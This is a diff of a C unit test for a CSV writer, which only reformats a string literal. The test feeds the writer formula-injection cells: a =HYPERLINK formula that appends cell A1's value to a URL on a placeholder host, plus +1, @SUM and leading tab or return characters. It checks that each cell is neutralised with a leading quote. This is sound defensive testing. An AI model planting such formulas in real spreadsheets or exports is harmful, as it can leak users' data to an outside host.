@@ -493,12 +493,13 @@ Test(csv_write, cells_a_spreadsheet_would_run_are_neutralised)
 {
     struct plan p = {0};
     make_plan(&p);
-    const char *acts = AHEAD "A1,T1,\"=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1)\",2015-01-01,"
-                             "2015-06-30\r\nA2,T1,+1,2015-01-01,2015-06-30\r\n"
-                             "A3,T1,@SUM(A1),2015-01-01,2015-06-30\r\n"
-                             "A4,T1,\"\tTab\",2015-01-01,2015-06-30\r\n"
-                             "A5,T1,\"\rReturn\",2015-01-01,2015-06-30\r\n"
-                             "A6,T1,'plain quote,2015-01-01,2015-06-30\r\n";
+    const char *acts =
+        AHEAD "A1,T1,\"=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1)\",2015-01-01,"
+              "2015-06-30\r\nA2,T1,+1,2015-01-01,2015-06-30\r\n"
+              "A3,T1,@SUM(A1),2015-01-01,2015-06-30\r\n"
+              "A4,T1,\"\tTab\",2015-01-01,2015-06-30\r\n"
+              "A5,T1,\"\rReturn\",2015-01-01,2015-06-30\r\n"
+              "A6,T1,'plain quote,2015-01-01,2015-06-30\r\n";
     read_ok(&p, acts);
     char *text = round_trip(&p, CSV_ACTIONS, NULL);
     /* each such text cell starts with a quote, which a spreadsheet shows as text */
